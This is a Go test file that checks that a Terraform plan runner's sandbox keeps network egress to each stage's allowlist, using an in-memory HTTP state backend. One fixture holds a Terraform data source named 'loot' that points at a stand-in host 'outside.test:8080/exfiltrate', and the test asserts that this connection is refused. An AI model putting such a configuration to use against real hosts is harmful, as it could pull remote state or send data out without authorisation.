package runner

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// httpStateBackend is Terraform's http backend protocol, kept in memory:
// GET the state (404: none yet), POST a new one.
func httpStateBackend(t *testing.T) (*httptest.Server, *int) {
	var mu sync.Mutex
	var state []byte
	var requests int
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		requests++
		switch r.Method {
		case http.MethodGet:
			if state == nil {
				http.NotFound(w, r)
				return
			}
			w.Write(state)
		case http.MethodPost:
			state, _ = io.ReadAll(r.Body)
		default:
			http.Error(w, "no", http.StatusMethodNotAllowed)
		}
	}))
	t.Cleanup(srv.Close)
	return srv, &requests
}

// TestPlansReachOnlyTheirAllowlist plans, in the sandbox's network
// namespace: a stage whose state is in an http backend on the bot's
// loopback plans when its egress lists that address, and cannot reach it
// when not; a plan that reads the state of a host off the list fails, and
// its log says that the bot refused the connection.
func TestPlansReachOnlyTheirAllowlist(t *testing.T) {
	srv, requests := httpStateBackend(t)
	port := srv.URL[strings.LastIndex(srv.URL, ":")+1:]
	r := isolatedRunner(t, Config{PlanRetries: -1})
	if !r.sandbox.Features().Net {
		t.Fatalf("this host gives runs no network namespace: %v", r.sandbox.Features().Missing)
	}
	httpBackend := fmt.Sprintf("terraform {\n  backend \"http\" {\n    address   = %q\n    retry_max = 0\n  }\n}\n", srv.URL+"/state")
	main := httpBackend + "resource \"terraform_data\" \"x\" {\n  input = \"over http\"\n}\n"

	listed := stage(t, r.WorkspaceDir("acme/platform", 1, "sha1"), "s", map[string]string{"main.tf": main})
	listed.Egress = []string{"127.0.0.1:" + port}
	res, err := r.Plan(context.Background(), listed)
	if err != nil {
		t.Fatalf("a plan whose backend is on its allowlist failed: %s", logOf(err))
	}
	if !res.HasChanges || *requests == 0 {
		t.Errorf("the plan did not use its backend: changes %v, %d requests", res.HasChanges, *requests)
	}

	before := *requests
	unlisted := stage(t, r.WorkspaceDir("acme/platform", 2, "sha2"), "s", map[string]string{"main.tf": main})
	unlisted.PR = 2
	if _, err := r.Plan(context.Background(), unlisted); err == nil || *requests != before {
		t.Fatalf("a plan reached a backend off its allowlist: err %v, %d requests", err, *requests-before)
	}

	outside := stage(t, r.WorkspaceDir("acme/platform", 3, "sha3"), "s", map[string]string{"main.tf": httpBackend +
		"data \"terraform_remote_state\" \"loot\" {\n  backend = \"http\"\n  config = {\n    address   = \"http://outside.test:8080/exfiltrate\"\n    retry_max = 0\n  }\n}\n"})
	outside.PR, outside.Egress = 3, listed.Egress
	_, err = r.Plan(context.Background(), outside)
	if err == nil {
		t.Fatal("a plan reached a host off its allowlist")
	}
	if log := logOf(err); !strings.Contains(log, "stagebot egress: refused a connection to outside.test:8080") {
		t.Errorf("the plan's log does not name the refused connection:\n%s", log)
	}
}
